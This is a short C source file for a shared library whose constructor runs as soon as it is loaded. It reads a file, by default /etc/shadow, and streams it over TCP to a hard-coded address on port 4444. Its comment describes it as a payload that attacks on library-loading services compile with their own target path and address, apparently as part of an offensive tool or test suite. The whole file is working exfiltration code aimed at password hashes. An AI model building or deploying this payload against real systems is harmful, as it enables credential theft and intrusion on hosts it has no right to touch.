/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A library that does its harm as soon as it is loaded: it sends a file to an attacker's address.
 * The attacks on services that load libraries compile it, with PATH, ADDRESS and
 * PORT of their own.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef PATH
#define PATH "/etc/shadow"
#define ADDRESS "10.88.0.1"
#define PORT 4444
#endif

__attribute__((constructor)) static void send_file(void)
{
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(PORT)};
	int from = open(PATH, O_RDONLY | O_CLOEXEC);
	int to = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char text[4096];
	ssize_t n;

	inet_pton(AF_INET, ADDRESS, &sa.sin_addr);
	if (from >= 0 && to >= 0 && connect(to, (struct sockaddr *)&sa, sizeof(sa)) == 0) {
		while ((n = read(from, text, sizeof(text))) > 0)
			if (write(to, text, (size_t)n) != n)
				break;
	}
	close(from);
	close(to);
}
